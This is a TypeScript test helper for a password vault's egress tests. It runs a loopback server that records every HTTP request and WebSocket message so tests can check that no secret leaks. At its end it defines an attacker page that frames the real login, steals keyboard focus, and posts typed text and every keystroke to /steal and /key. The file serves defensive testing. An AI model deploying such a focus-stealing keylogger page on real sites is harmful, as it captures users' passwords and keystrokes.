// A site that keeps every request it receives (method, URL, headers, body) and every WebSocket handshake and
// message, and serves the pages a test gives it. The vault's egress tests use it twice: as the page a saved
// login's own origin serves (a login form whose script sends the password elsewhere), and as the place it is
// sent to — where not one character of any secret may arrive.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { WebSocketServer } from 'ws';
import type { Haystack } from './vault-logins.js';

export interface RecordedRequest {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** What a page path answers: HTML, or a handler given the request and its body. */
export type RecordingRoute =
  string | ((req: RecordedRequest) => { status?: number; headers?: Record<string, string>; body?: string });

export interface RecordingSite {
  /** http://<host>:<port> */
  origin: string;
  url(path: string): string;
  requests: RecordedRequest[];
  /** WebSocket handshakes (their URLs) and every message a client sent. */
  webSockets: { url: string; messages: string[] }[];
  /** Everything received, for findSecrets. */
  haystacks(): Haystack[];
  route(path: string, answer: RecordingRoute): void;
  close(): Promise<void>;
}

/**
 * Starts the site on a loopback address (`127.0.0.2` is another site than `127.0.0.1`; `localhost` names the same
 * address under another host, so another origin and another site), port 0.
 */
export async function startRecordingSite(
  host: '127.0.0.1' | '127.0.0.2' | 'localhost' = '127.0.0.1',
  routes: Record<string, RecordingRoute> = {},
): Promise<RecordingSite> {
  const table = new Map(Object.entries(routes));
  const requests: RecordedRequest[] = [];
  const webSockets: { url: string; messages: string[] }[] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const recorded = {
        method: req.method ?? 'GET',
        url: req.url ?? '/',
        headers: req.headers,
        body: Buffer.concat(chunks).toString('utf8'),
      };
      requests.push(recorded);
      const answer = table.get(new URL(recorded.url, 'http://x').pathname);
      if (answer === undefined) {
        res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
        return;
      }
      const out = typeof answer === 'string' ? { body: answer } : answer(recorded);
      res
        .writeHead(out.status ?? 200, { 'content-type': 'text/html; charset=utf-8', ...out.headers })
        .end(out.body ?? '');
    });
  });
  const wss = new WebSocketServer({ server });
  wss.on('connection', (socket, req) => {
    const entry = { url: req.url ?? '/', messages: [] as string[] };
    webSockets.push(entry);
    socket.on('message', (data: Buffer) => entry.messages.push(data.toString('utf8')));
  });
  await new Promise<void>((resolve) => server.listen(0, host === 'localhost' ? '127.0.0.1' : host, resolve));
  const origin = `http://${host}:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    url: (path) => `${origin}${path}`,
    requests,
    webSockets,
    haystacks: () => [
      ...requests.map((r, i) => ({
        where: `request ${i + 1} to ${origin} (${r.method} ${r.url})`,
        data: `${r.url}\n${JSON.stringify(r.headers)}\n${r.body}`,
      })),
      ...webSockets.map((w, i) => ({
        where: `WebSocket ${i + 1} to ${origin}`,
        data: `${w.url}\n${w.messages.join('\n')}`,
      })),
    ],
    route: (path, answer) => void table.set(path, answer),
    close: async () => {
      for (const client of wss.clients) client.terminate();
      wss.close();
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

/**
 * An attacker's page: the real login page in an iframe, and an input of its own that keeps taking the keyboard
 * focus and reports what it receives (`/steal`) and every key pressed in its document (`/key`).
 */
export const focusStealingPage = (loginUrl: string): string => `<!doctype html><title>Sign in</title>
  <iframe src="${loginUrl}" style="width:640px;height:640px" title="Sign in"></iframe>
  <input id="steal" aria-label="steal">
  <script>
    const s = document.getElementById('steal');
    setInterval(() => { if (document.activeElement !== s) s.focus(); }, 1);
    s.addEventListener('input', () => fetch('/steal', { method: 'POST', body: s.value }));
    document.addEventListener('keydown', (e) => fetch('/key', { method: 'POST', body: e.key }));
  </script>`;
